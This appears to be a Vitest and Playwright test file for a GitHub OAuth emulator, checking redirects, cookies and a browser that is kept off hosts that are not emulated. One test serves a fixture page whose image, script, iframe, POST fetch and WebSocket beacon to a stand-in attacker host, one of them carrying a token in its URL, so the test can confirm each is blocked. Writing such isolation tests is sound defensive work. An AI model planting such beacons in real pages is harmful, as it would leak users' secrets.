import { once } from "node:events";
import { createServer, type RequestListener } from "node:http";
import type { AddressInfo } from "node:net";
import { describe, onTestFinished, test } from "vitest";
import { hasChromium } from "../chromium.test-support.ts";
import { openStrandedContext } from "./chromium.test-support.ts";
import { createGitHubEmulator } from "./emulator.ts";
import { startNetwork } from "./network.ts";
import { routeGitHub } from "./route-github.ts";

type Answers = Record<string, RequestListener>;

/** Serves an application that signs in at GitHub, and routes GitHub for a browser. */
async function open({
  gitHubUrl = "https://github.com",
  scripts = true,
  allow,
}: { gitHubUrl?: string; scripts?: boolean; allow?: (url: URL) => boolean } = {}) {
  const answers: Answers = {};
  const origin = await serve(answers);
  const github = createGitHubEmulator({ gitHubUrl, callbackUrl: `${origin}/callback` });
  const { context, failed } = await openStrandedContext({ javaScriptEnabled: scripts });
  const page = await context.newPage();
  await routeGitHub(github, page, { allow });
  const query = new URLSearchParams({ client_id: github.app.clientId, state: "xyz" });
  const authorizeUrl = `${gitHubUrl}/login/oauth/authorize?${query}`;
  Object.assign(answers, {
    "GET /sign-in": redirect(302, authorizeUrl, [
      "__Host-state=1; Path=/; Secure; HttpOnly; SameSite=Lax",
      "strict=1; Path=/; SameSite=Strict",
    ]),
    "GET /start": redirect(302, "/sign-in"),
    "GET /callback": ({ headers }, response) =>
      response.end(`cookie: ${headers.cookie}; referer: ${headers.referer}`),
    "POST /sign-in": redirect(303, authorizeUrl),
    "POST /again": redirect(307, authorizeUrl),
    "GET /": show(`<form method="post" action="/sign-in"><button>Sign in</button></form>
      <form method="post" action="/again"><button>Again</button></form>
      <a target="_blank" href="/start">Window</a>`),
  } satisfies Answers);
  return { failed, github, context, page, answers, origin, authorizeUrl };
}

async function serve(answers: Answers): Promise<string> {
  const server = createServer((request, response) => {
    const answer = answers[`${request.method} ${request.url?.split("?")[0]}`];
    if (answer) answer(request, response);
    else response.writeHead(404).end();
  }).listen(0, "localhost");
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  await once(server, "listening");
  return `http://localhost:${(server.address() as AddressInfo).port}`;
}

function redirect(status: number, location: string, cookies: string[] = []): RequestListener {
  return (_request, response) =>
    response.writeHead(status, { Location: location, "Set-Cookie": cookies }).end();
}

function show(markup: string): RequestListener {
  return (_request, response) =>
    response.writeHead(200, { "Content-Type": "text/html" }).end(markup);
}

describe.runIf(hasChromium)("a browser that Playwright drives", () => {
  test("stays with the emulated GitHub over every redirect there, in it and back", async ({
    expect,
  }) => {
    const { page, origin, failed } = await open();
    await page.goto(`${origin}/start`);
    expect(await page.title()).toContain("Sign in to GitHub");
    await page.getByRole("button", { name: "octocat" }).click();
    await page.getByRole("button", { name: /^Authorize / }).click();
    await page.waitForURL(`${origin}/callback?code=*&state=xyz`);
    expect(failed).toEqual([]);
  });

  test("keeps a redirect's __Host- cookies, and sends no Strict one when GitHub leads back", async ({
    expect,
  }) => {
    const { page, origin } = await open();
    await page.goto(`${origin}/sign-in`);
    await page.getByRole("button", { name: "octocat" }).click();
    await page.getByRole("button", { name: /^Authorize / }).click();
    await page.waitForURL(`${origin}/callback?*`);
    expect(await page.textContent("body")).toBe(
      "cookie: __Host-state=1; referer: https://github.com/",
    );
    await page.goto(`${origin}/callback`);
    expect(await page.textContent("body")).toContain("strict=1");
  });

  test("needs no click the second time, and is at the end of the way when Playwright says so", async ({
    expect,
  }) => {
    const { page, context, origin, failed } = await open();
    await page.goto(`${origin}/sign-in`);
    await page.getByRole("button", { name: "octocat" }).click();
    await page.getByRole("button", { name: /^Authorize / }).click();
    await page.waitForURL(`${origin}/callback?*`);
    await page.goto(`${origin}/start`);
    expect(page.url()).toContain("/callback?code=");
    await context.clearCookies();
    await page.goto(`${origin}/start`);
    expect(await page.title()).toContain("Sign in to GitHub");
    expect(failed).toEqual([]);
  });

  test("follows a form that is answered with 303, and not one that would be posted again", async ({
    expect,
  }) => {
    const { page, origin, failed } = await open();
    await page.goto(origin);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("button", { name: "octocat" }).waitFor();
    await page.goto(origin);
    await page.getByRole("button", { name: "Again" }).click();
    await expect.poll(() => failed).toEqual([`net::ERR_BLOCKED_BY_CLIENT ${origin}/again`]);
  });

  test("stays with the emulated GitHub in a window that a page opens, and without scripts", async ({
    expect,
  }) => {
    const { page, origin, failed } = await open({ scripts: false });
    await page.goto(origin);
    const opened = page.waitForEvent("popup");
    await page.getByRole("link", { name: "Window" }).click();
    await (await opened).getByRole("button", { name: "octocat" }).waitFor();
    expect(failed).toEqual([]);
  });

  test("stays with an emulated GitHub Enterprise Server", async ({ expect }) => {
    const gitHubUrl = "https://github.example";
    const { page, origin, failed } = await open({ gitHubUrl });
    await page.goto(`${origin}/start`);
    await page.getByRole("button", { name: "octocat" }).click();
    await page.getByRole("button", { name: /^Authorize / }).waitFor();
    expect(new URL(page.url()).origin).toBe(gitHubUrl);
    expect(failed).toEqual([]);
  });

  test("cannot go to a page of GitHub's that is not emulated, not even redirected", async ({
    expect,
  }) => {
    const { page, answers, origin, failed } = await open();
    answers["GET /elsewhere"] = redirect(301, "https://github.com/octocat");
    const blocked = "net::ERR_BLOCKED_BY_CLIENT https://github.com/octocat";
    await page.goto("https://github.com/octocat").catch(() => "the browser's own page");
    expect(failed).toEqual([blocked]);
    await page.goto(`${origin}/elsewhere`).catch(() => "the browser's own page");
    await expect.poll(() => failed).toEqual([blocked, blocked]);
  });

  test("is refused whatever a page asks for on another machine, and the network records it", async ({
    expect,
  }) => {
    using network = startNetwork({ handlers: [] });
    const { page, answers, origin, failed } = await open();
    answers["GET /page"] = show(`<img src="https://evil.example/pixel?token=secret">
      <script src="https://evil.example/script.js"></script>
      <iframe src="https://evil.example/frame"></iframe>
      <script>
        fetch("https://evil.example/fetch", { method: "POST", mode: "no-cors" }).catch(() => {});
        fetch("https://api.github.com/nowhere").catch(() => {});
        new WebSocket("wss://evil.example/socket").onclose = () => (document.title = "closed");
      </script>`);
    await page.goto(`${origin}/page`);
    await expect.poll(() => page.title()).toBe("closed");
    await page.goto("https://evil.example/document").catch(() => "the browser's own page");
    await page.goto("https://github.com/nowhere").catch(() => "the browser's own page");
    await expect.poll(() => failed.length).toBe(7);
    expect(failed.every((line) => line.startsWith("net::ERR_BLOCKED_BY_CLIENT"))).toBe(true);
    const recorded = network.unexpected.map(({ method, url }) => `${method} ${url}`);
    expect(recorded.toSorted()).toEqual([
      "GET https://api.github.com/nowhere",
      "GET https://evil.example/document",
      "GET https://evil.example/frame",
      "GET https://evil.example/pixel?token=…",
      "GET https://evil.example/script.js",
      "GET https://github.com/nowhere",
      "POST https://evil.example/fetch",
      "WebSocket wss://evil.example/socket",
    ]);
  });

  test("tells of a redirect that leads what a page loads to another machine", async ({
    expect,
  }) => {
    using network = startNetwork({ handlers: [] });
    const { page, answers, origin } = await open();
    answers["GET /page"] = show(`<img src="/away">`);
    answers["GET /away"] = redirect(302, "https://evil.example/pixel");
    await page.goto(`${origin}/page`);
    await expect
      .poll(() => network.unexpected)
      .toEqual([{ method: "GET", url: "https://evil.example/pixel" }]);
  });

  test("reaches what the caller allows", async ({ expect }) => {
    using network = startNetwork({ handlers: [] });
    const { page, context, answers, origin, failed } = await open({
      allow: ({ hostname }) => hostname === "cdn.example",
    });
    await context.route("https://cdn.example/*", (route) => route.fulfill({ body: "" }));
    answers["GET /page"] = show(`<script src="https://cdn.example/script.js"></script>`);
    await page.goto(`${origin}/page`);
    expect([failed, network.unexpected]).toEqual([[], []]);
  });

  test("shows what goes wrong at GitHub, and where nobody listens", async ({ expect }) => {
    const { page, github, authorizeUrl } = await open();
    github.fail("GET /login/oauth/authorize", "503");
    expect((await page.goto(authorizeUrl))?.status()).toBe(503);
    github.fail("GET /login/oauth/authorize", "reset");
    await expect(page.goto(authorizeUrl)).rejects.toThrow("net::ERR_CONNECTION_RESET");
    const nobody = "http://127.0.0.1:43209/";
    await expect(page.goto(nobody)).rejects.toThrow("net::ERR_CONNECTION_FAILED");
  });

  test("receives a stream that a script reads as it comes", async ({ expect }) => {
    const { page, answers, origin } = await open();
    answers["GET /stream"] = (_request, response) =>
      void response.writeHead(200, { "Content-Type": "text/plain" }).write("first");
    await page.goto(origin);
    const first = await page.evaluate(async () => {
      const chunk = await (await fetch("/stream")).body!.getReader().read();
      return new TextDecoder().decode(chunk.value);
    });
    expect(first).toBe("first");
  });
});
